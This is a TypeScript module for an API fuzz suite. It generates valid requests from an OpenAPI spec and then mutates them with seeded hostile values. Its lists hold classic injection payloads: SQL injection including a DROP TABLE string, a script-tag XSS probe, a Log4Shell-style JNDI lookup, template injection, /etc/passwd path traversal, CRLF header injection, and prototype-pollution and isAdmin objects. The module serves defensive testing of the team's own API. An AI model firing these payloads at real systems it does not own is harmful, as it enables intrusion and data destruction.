/**
 * Spec-driven request generation for the fuzz suite: every operation of openapi.yaml, with a
 * valid body built from its schema, then (mostly) one hostile mutation of its body, parameters
 * or headers. Seeded, so a failure is replayed by its seed and request number.
 */

export type Schema = Record<string, any>;
export type Spec = { paths: Record<string, Record<string, Operation>>; components?: { schemas?: Record<string, Schema> } };
export interface Operation {
  operationId: string;
  parameters?: { name: string; in: 'path' | 'query' | 'header'; required?: boolean; schema?: Schema }[];
  requestBody?: { content: Record<string, { schema?: Schema }> };
  responses?: Record<string, { content?: Record<string, { schema?: Schema }> }>;
}
export interface Op {
  method: string;
  path: string;
  op: Operation;
}

/** mulberry32: small, fast, good enough to pick cases reproducibly. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export const operations = (spec: Spec): Op[] =>
  Object.entries(spec.paths).flatMap(([path, methods]) =>
    Object.entries(methods)
      .filter(([m]) => ['get', 'post', 'put', 'patch', 'delete'].includes(m))
      .map(([method, op]) => ({ method, path, op })),
  );

export const HOSTILE_STRINGS = [
  'a\u0000b',
  '\u0000',
  'x\u0007\u001b[31m',
  'line\r\nSet-Cookie: x=1',
  "' OR '1'='1' --",
  '1; DROP TABLE citizen; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  'مرحبا بكم في الملحقة الإدارية',
  '\u202Egnp.exe',
  '👩🏽‍💻🇲🇦✅',
  'ⵜⴰⵎⴰⵣⵉⵖⵜ',
  '\uFEFF\u200B',
  '\uD800', // lone surrogate
  'null',
  '-1',
  '9'.repeat(40),
  '',
  ' ',
];
export const BAD_UUIDS = [
  'not-a-uuid',
  '00000000-0000-0000-0000-000000000000',
  "1' OR '1'='1",
  'ffffffff-ffff-ffff-ffff-ffffffffffffff',
  '%00',
  '..',
  'x'.repeat(300),
];

export class Generator {
  constructor(
    private readonly spec: Spec,
    readonly random: () => number,
  ) {}

  pick<T>(xs: readonly T[]): T {
    return xs[Math.floor(this.random() * xs.length)];
  }

  resolve(s: Schema | undefined): Schema {
    let cur = s ?? {};
    for (let i = 0; cur.$ref && i < 10; i++) cur = this.spec.components?.schemas?.[String(cur.$ref).split('/').pop()!] ?? {};
    return cur;
  }

  uuid(): string {
    const h = () => Math.floor(this.random() * 16).toString(16);
    const s = Array.from({ length: 32 }, h).join('');
    return `${s.slice(0, 8)}-${s.slice(8, 12)}-4${s.slice(13, 16)}-8${s.slice(17, 20)}-${s.slice(20, 32)}`;
  }

  /** A value that satisfies the schema as far as a generator can (examples first). */
  valid(schema: Schema | undefined, depth = 0): unknown {
    const s = this.resolve(schema);
    if (s.allOf) return Object.assign({}, ...s.allOf.map((x: Schema) => this.valid(x, depth + 1)));
    if (s.oneOf || s.anyOf) return this.valid(this.pick(s.oneOf ?? s.anyOf), depth + 1);
    if (s.enum) return this.pick(s.enum);
    if (s.example !== undefined && this.random() < 0.7) return s.example;
    switch (s.type) {
      case 'string':
        if (s.format === 'uuid') return this.uuid();
        if (s.format === 'date-time') return new Date(Date.UTC(2026, 0, 1 + Math.floor(this.random() * 300))).toISOString();
        if (s.format === 'date') return `2026-0${1 + Math.floor(this.random() * 9)}-1${Math.floor(this.random() * 9)}`;
        if (s.format === 'email') return `fuzz${Math.floor(this.random() * 1e6)}@example.ma`;
        if (s.format === 'uri' || s.format === 'url') return 'https://example.ma/hooks';
        return 'fuzz'.padEnd(Math.min(Math.max(s.minLength ?? 4, 4), s.maxLength ?? 12), 'x');
      case 'integer':
      case 'number':
        return Math.max(s.minimum ?? 1, Math.min(s.maximum ?? 100, 1 + Math.floor(this.random() * 10)));
      case 'boolean':
        return this.random() < 0.5;
      case 'array':
        return depth > 4
          ? []
          : Array.from({ length: Math.max(s.minItems ?? 0, Math.floor(this.random() * 3)) }, () => this.valid(s.items, depth + 1));
      default: {
        if (!s.properties) return s.type === 'object' ? {} : 'fuzz';
        const out: Record<string, unknown> = {};
        for (const [k, v] of Object.entries(s.properties as Record<string, Schema>)) {
          if ((s.required ?? []).includes(k) || (depth < 4 && this.random() < 0.5)) out[k] = this.valid(v, depth + 1);
        }
        return out;
      }
    }
  }

  /** One hostile replacement for a leaf value. */
  hostileValue(): unknown {
    const r = this.random();
    if (r < 0.45) return this.pick(HOSTILE_STRINGS);
    if (r < 0.55) return 'x'.repeat(100_000 + Math.floor(this.random() * 100_000)); // huge
    if (r < 0.65) return this.pick(BAD_UUIDS);
    // wrong types
    return this.pick<unknown>([null, 0, -1, 1e308, true, [], [1, 'a'], {}, { $ne: null }, { __proto__: { admin: true } }, 'NaN']);
  }

  /** Replaces one leaf (or adds a field) somewhere in `value`. */
  mutate(value: unknown, depth = 0): unknown {
    if (value === null || typeof value !== 'object' || depth > 6 || this.random() < 0.2) return this.hostileValue();
    if (Array.isArray(value)) {
      if (!value.length) return [this.hostileValue()];
      const i = Math.floor(this.random() * value.length);
      return value.map((v, j) => (j === i ? this.mutate(v, depth + 1) : v));
    }
    const keys = Object.keys(value);
    if (!keys.length || this.random() < 0.15)
      return { ...value, [this.pick(['isAdmin', 'role', '__proto__', 'constructor', 'a\u0000', 'مفتاح'])]: this.hostileValue() };
    const k = this.pick(keys);
    return { ...value, [k]: this.mutate((value as Record<string, unknown>)[k], depth + 1) };
  }

  deepJson(): string {
    const n = this.pick([33, 100, 5000, 200_000]);
    return this.random() < 0.5 ? '['.repeat(n) + ']'.repeat(n) : '{"a":'.repeat(n) + '1' + '}'.repeat(n);
  }
}
